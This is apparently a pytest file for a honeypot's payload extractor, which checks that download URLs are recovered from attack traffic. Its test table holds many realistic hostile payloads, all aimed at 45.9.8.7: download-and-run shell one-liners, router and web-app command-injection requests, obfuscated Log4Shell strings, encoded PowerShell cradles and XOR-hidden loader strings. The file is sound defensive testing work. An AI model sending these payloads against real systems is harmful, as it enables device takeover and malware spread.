"""From what attacks send to what they would fetch. Each row is written after attacks seen in the field."""

# ruff: noqa: E501 (payloads stay on the lines on which they were sent)
from __future__ import annotations

import base64
import gzip
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eudaemon.payload import extract as extract_module
from eudaemon.payload.extract import DOWNLOADS_MAX, TEXTS_MAX, Extraction, extract
from eudaemon.payload.fragments import FRAGMENTS_MAX, fragments, urls
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

LOADER = b"\xcd\x80cmd.exe\0URLDownloadToFileA\0http://45.9.8.7/a.exe\0cmd /c tftp -g -l x -r b.exe 45.9.8.7\0"
HOST = Host.from_seed(Seed(b"extract"))
H = "http://45.9.8.7"


def wide(text: str) -> bytes:
    return base64.b64encode(text.encode("utf-16-le"))


def fetched(payload: bytes) -> list[str]:
    return [download.url for download in extract(payload, HOST).downloads]


ROWS: list[tuple[str, bytes, list[str]]] = [
    ("shellcode behind a XOR", b"USER " + bytes(byte ^ 0x99 for byte in LOADER), [f"{H}/a.exe", "tftp://45.9.8.7/b.exe"]),
    ("shellcode behind a longer XOR", bytes(byte ^ b"\x12\x34\x56\x78"[at % 4] for at, byte in enumerate(LOADER)),
     [f"{H}/a.exe", "tftp://45.9.8.7/b.exe"]),
    ("wget", b"wget http://45.9.8.7/x", [f"{H}/x"]),
    ("no scheme", b"wget 45.9.8.7/x -O /tmp/x; sh /tmp/x", [f"{H}/x"]),
    ("busybox", b"/bin/busybox wget http://45.9.8.7/bins/x.mips -O - > dvrHelper", [f"{H}/bins/x.mips"]),
    ("huawei's wget", b"/bin/busybox wget -g 45.9.8.7 -l /tmp/x -r /mips; chmod 777 /tmp/x; /tmp/x", [f"{H}/mips"]),
    ("pipe", b"curl -fsSL http://45.9.8.7/i.sh | bash", [f"{H}/i.sh"]),
    ("both sides of or", b"wget -q http://45.9.8.7/a -O- || curl -s http://45.9.8.7/b | sh", [f"{H}/a", f"{H}/b"]),
    ("both sides of and", b"wget http://45.9.8.7/a && wget http://45.9.8.7/b", [f"{H}/a", f"{H}/b"]),
    ("tftp", b"tftp -g -l x -r mips.bin 45.9.8.7", ["tftp://45.9.8.7/mips.bin"]),
    ("tftp of inetutils", b"tftp 45.9.8.7 -c get tftp1.sh; sh tftp1.sh", ["tftp://45.9.8.7/tftp1.sh"]),
    ("ftpget", b"ftpget -v -u anonymous -p anonymous -P 21 45.9.8.7 ftp1.sh ftp1.sh",
     ["ftp://anonymous:anonymous@45.9.8.7/ftp1.sh"]),
    ("dev tcp", b"exec 3<>/dev/tcp/45.9.8.7/8080; cat <&3 > /tmp/x", ["tcp://45.9.8.7:8080/"]),
    ("UNC path", rb"rundll32.exe \\45.9.8.7\share\dir\x.dll,Start", ["smb://45.9.8.7/share/dir/x.dll"]),
    ("no UNC paths", rb"\\x41\\x42 \\host\share\x \\45.9.8.7\share", []),
    ("escaped UNC path", rb'{"a": "\\\\45.9.8.7\\share\\x.exe"}', ["smb://45.9.8.7/share/x.exe"]),
    ("smb", b"copy smb://45.9.8.7/share/x.exe", ["smb://45.9.8.7/share/x.exe"]),
    ("rcp", b"rcp -p bin@45.9.8.7:/tmp/x .; sh x", ["rcp://bin@45.9.8.7//tmp/x"]),
    ("scp", b"scp -o x root@45.9.8.7:x .; scp root@45.9.8.7:bot /tmp/b", ["scp://root@45.9.8.7/bot"]),
    ("variables", b"H=45.9.8.7; for a in arm mips; do wget http://$H/$a; done", [f"{H}/arm", f"{H}/mips"]),
    ("IFS", b"wget${IFS}http://45.9.8.7/x${IFS}-O${IFS}/tmp/x", [f"{H}/x"]),
    ("IFS behind a URL that no shell reads", b"x http://45.9.8.7/x$IFS-O y", [f"{H}/x"]),
    ("IFS$9", b";wget$IFS$9http://45.9.8.7/x;", [f"{H}/x"]),
    ("hex printf", rb"""$(printf '\x77\x67\x65\x74') http://45.9.8.7/x""", [f"{H}/x"]),
    ("quotes in the word", b"""w'g'e"t" http://45.9.8.7/x""", [f"{H}/x"]),
    ("base64 to a shell", b"echo " + base64.b64encode(b"wget http://45.9.8.7/x") + b" | base64 -d | sh", [f"{H}/x"]),
    ("java's way", b"bash -c {echo," + base64.b64encode(b"curl http://45.9.8.7/x -o /tmp/x") + b"}|{base64,-d}|{bash,-i}",
     [f"{H}/x"]),
    ("jaws", b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.9.8.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n\r\n", [f"{H}/jaws"]),
    ("request that ends in the command", b"GET /?x=wget%20http://45.9.8.7/a HTTP/1.1\r\n\r\n", [f"{H}/a"]),
    ("escaped slashes", b"GET /shell?cd+/tmp;wget+http:/\\/45.9.8.7/jaws HTTP/1.0\r\n\r\n", [f"{H}/jaws"]),
    ("netgear", b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://45.9.8.7:1234/Mozi.m+-O+"
     b"/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", [f"{H}:1234/Mozi.m"]),
    ("gpon", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 1\r\n\r\nXWebPageName=diag&diag_action=ping&"
     b"wan_conlist=0&dest_host=``;wget+http://45.9.8.7/gpon+-O+/tmp/g;sh+/tmp/g&ipv=0", [f"{H}/gpon"]),
    ("tp-link", b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F45.9.8.7"
     b"%2Ft+-O-+|+sh%60) HTTP/1.1\r\n\r\n", [f"{H}/t"]),
    ("soap", b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
     b'<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
     b"<NewInternalClient>`cd /var; wget http://45.9.8.7/r; sh r`</NewInternalClient></s:Body></s:Envelope>", [f"{H}/r"]),
    ("hg532", b"<NewStatusURL>$(/bin/busybox wget -g 45.9.8.7 -l /tmp/b -r /h; chmod 777 /tmp/b)</NewStatusURL>", [f"{H}/h"]),
    ("html entities", b"<cmd>wget&#32;http&colon;&#x2f;&#x2f;45.9.8.7&sol;e</cmd>", [f"{H}/e"]),
    ("json", rb'{"cmd": "sh -c \"wget http://45.9.8.7/j -O- | sh\"", "n": 1}', [f"{H}/j"]),
    ("hadoop yarn", b'{"am-container-spec":{"commands":{"command":"curl http://45.9.8.7/y | bash & disown"}}}', [f"{H}/y"]),
    ("docker", b'{"Cmd":["/bin/sh","-c","chroot /mnt sh -c \'curl -s http://45.9.8.7/d|sh\'"],"Image":"alpine"}', [f"{H}/d"]),
    ("redis cron", b'\n\n*/1 * * * * curl -fsSL http://45.9.8.7/c.sh | sh\n\n', [f"{H}/c.sh"]),
    ("thinkphp", b"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&"
     b"vars[1][]=wget%20http://45.9.8.7/tp%20-O%20/tmp/tp HTTP/1.1\r\n\r\n", [f"{H}/tp"]),
    ("php", b"<?php system('wget http://45.9.8.7/p -O /tmp/p'); ?>", [f"{H}/p"]),
    ("log4shell", b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://45.9.8.7:1389/Exploit}\r\n\r\n", ["ldap://45.9.8.7:1389/Exploit"]),
    ("log4shell, hidden", b"X: ${${lower:j}ndi:${lower:l}${::-d}a${env:NO:-p}://45.9.8.7:1389/a}", ["ldap://45.9.8.7:1389/a"]),
    ("log4shell with a command", b"${jndi:ldap://45.9.8.7:1389/Basic/Command/Base64/"
     + base64.b64encode(b"curl http://45.9.8.7/l4j|bash") + b"}", [f"{H}/l4j"]),
    ("powershell", b"powershell -enc " + wide("IEX (New-Object Net.WebClient).DownloadString('http://45.9.8.7/a.ps1')"),
     [f"{H}/a.ps1"]),
    ("certutil", b"cmd /c certutil -urlcache -split -f http://45.9.8.7/m.exe %TEMP%\\m.exe", [f"{H}/m.exe"]),
    ("python", b"python3 -c \"import urllib.request as u;exec(u.urlopen('http://45.9.8.7/z').read())\"", [f"{H}/z"]),
    ("hexadecimal", b"xp_cmdshell 0x" + b"wget http://45.9.8.7/hex -O /tmp/x".hex().encode(), [f"{H}/hex"]),
    ("gzip", gzip.compress(b"#!/bin/sh\nwget http://45.9.8.7/gz\n"), [f"{H}/gz"]),
    ("twice encoded", b"cmd=wget%2520http%253A%252F%252F45.9.8.7%252Ftwice", [f"{H}/twice"]),
    ("in a program", b"\x7fELF\x01\0\0\0\0wget http://45.9.8.7/elf -O /tmp/e\0\0\x90\x90", [f"{H}/elf"]),
    ("nothing", b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (+http://crawler.example/about)\r\n\r\n", []),
    ("names of formats", b'<a xmlns="http://www.w3.org/1999/xhtml" xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">', []),
]  # fmt: skip


@pytest.mark.parametrize(("payload", "expected"), [row[1:] for row in ROWS], ids=[row[0] for row in ROWS])
def test_payloads(payload: bytes, expected: list[str]) -> None:
    found = fetched(payload)
    assert set(expected) <= set(found)
    # Nothing may be made up: all that is found besides is on a host that the payload names.
    hosts = {re.sub(r".*://(?:[^/@]*@)?([^/:]+).*", r"\1", url) for url in found}
    assert hosts <= {"45.9.8.7"}
    assert bool(found) == bool(expected)


def test_a_script_is_read_as_a_whole() -> None:
    script = b"""#!/bin/sh
# not a download: wget http://192.0.2.1/commented
url="http://45.9.8.7/bins"
get() {
  wget "$url/$1" -O "$1" || curl -o "$1" "$url/$1"
  chmod +x "$1"
}
for arch in x86 \\
    mips mpsl
do
  get "x.$arch"; ./"x.$arch" telnet
done
cat > again.sh <<EOF
wget http://45.9.8.7/in-a-document
EOF
sh again.sh
"""
    found = extract(script, HOST)
    shell = [d.url for d in found.downloads if d.tool in ("wget", "curl")]
    assert "http://192.0.2.1/commented" not in shell
    assert [u for u in shell if "/bins/" in u] == [f"{H}/bins/x.{a}" for a in ("x86", "mips", "mpsl")]
    assert f"{H}/in-a-document" in shell


def test_tools_and_names_are_kept() -> None:
    (download,) = extract(b"cd /tmp && curl -o bot http://45.9.8.7/x", HOST).downloads
    assert (download.tool, download.name.rpartition("/")[2]) == ("curl", "bot")


def test_a_url_that_the_shell_completes_is_not_fetched_as_it_stands() -> None:
    loop = b"for a in arm mips; do curl -O http://45.9.8.7/bot.$a; curl http://45.9.8.7/`echo $a`; done"
    assert fetched(loop) == [f"{H}/bot.arm", f"{H}/arm", f"{H}/bot.mips", f"{H}/mips"]


def test_what_only_passes_through_is_called_as_it_is_at_its_server() -> None:
    found = extract(b"wget -q http://45.9.8.7/b/x.sh -O - | sh; curl http://45.9.8.7/y?z | sh", HOST).downloads
    assert [download.name for download in found] == ["x.sh", "y"]


def test_a_private_address_is_told_and_replaced_by_the_attackers() -> None:
    payload = b"wget http://192.168.1.7:8080/x; wget http://45.9.8.7/y"
    assert fetched(payload) == ["http://192.168.1.7:8080/x", f"{H}/y"]
    found = extract(payload, HOST, attacker_ip="203.0.113.9")
    assert [d.url for d in found.downloads] == ["http://203.0.113.9:8080/x", f"{H}/y"]
    assert found.private == ("http://192.168.1.7:8080/x",)


@pytest.mark.parametrize(
    "payload",
    [
        b"wget http://45.9.8.7/" + b"a" * 300_000,
        b";".join(b"wget http://45.9.8.7/%d" % n for n in range(5000)),
        b"\n".join(b"wget http://45.9.8.7/%d" % n for n in range(5000)),
        b"while true; do wget http://45.9.8.7/x; done",
        b"wget " + b"$(" * 10_000,
        b"wget " + b'"' * 10_001,
        b"wget (" * 20_000,
        b"${lower:" * 50_000,
        b"%25" * 300_000,
        b"A" * 1_000_000,
        gzip.compress(b"\0" * 50_000_000),
        base64.b64encode(base64.b64encode(b"wget x" * 10_000)),
        b"eval eval eval " * 20_000,
        b"f() { f; f; }; f; wget http://45.9.8.7/x",
    ],
    ids=range(14),
)
def test_hostile_payloads_cost_their_limits(payload: bytes) -> None:
    found = extract(payload, HOST)
    assert len(found.downloads) <= DOWNLOADS_MAX
    assert len(found.layers) <= TEXTS_MAX
    assert sum(map(len, found.layers)) <= extract_module.LAYERS_SHARE * extract_module.PAYLOAD_BYTES_MAX


def test_limits_are_where_they_say() -> None:
    remarks = (b"# " + b"r" * 997 + b"\n") * 300
    command = b"\nwget 45.9.8.7/x\n"
    limit = extract_module.PAYLOAD_BYTES_MAX
    assert fetched(remarks[: limit - len(command)] + command) == [f"{H}/x"]
    assert fetched(remarks[:limit] + command) == []
    limit, command = extract_module.SHELL_BYTES_MAX // 4, b"\nwget $h/x\n"  # of one script
    assert fetched((b"h=45.9.8.7\n" + remarks)[: limit - len(command)] + command) == [f"{H}/x"]
    assert fetched((b"h=45.9.8.7\n" + remarks)[:limit] + command) == []
    whole = b"%77get 45.9.8.7/x # ".ljust(extract_module.PAYLOAD_BYTES_MAX, b"%")
    assert fetched(whole) == [f"{H}/x"]  # the largest payload still has its wrapping undone
    many = b"\n".join(b"x%d=1; wget 45.9.8.7/%d" % (n, n) for n in range(DOWNLOADS_MAX + 1))
    assert len(fetched(many)) == DOWNLOADS_MAX
    commands = extract(b"\n".join(b"'wget 45.9.8.7/%d'" % n for n in range(200)), HOST).commands
    assert 0 < len(commands) <= extract_module.COMMANDS_MAX


def test_pieces_and_urls_of_one_text_are_limited() -> None:
    text = b"\n".join(b"x='wget http://45.9.8.7/%d'" % n for n in range(1000))
    assert len(list(fragments(text))) == FRAGMENTS_MAX
    assert len(list(urls(text))) == 128


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400) | st.text("wget curl;|&$(){}`'\"<>\\=/%20http://a.b\n[]", max_size=120).map(str.encode))
def test_no_payload_is_our_fault(payload: bytes) -> None:
    assert isinstance(extract(payload, HOST), Extraction)
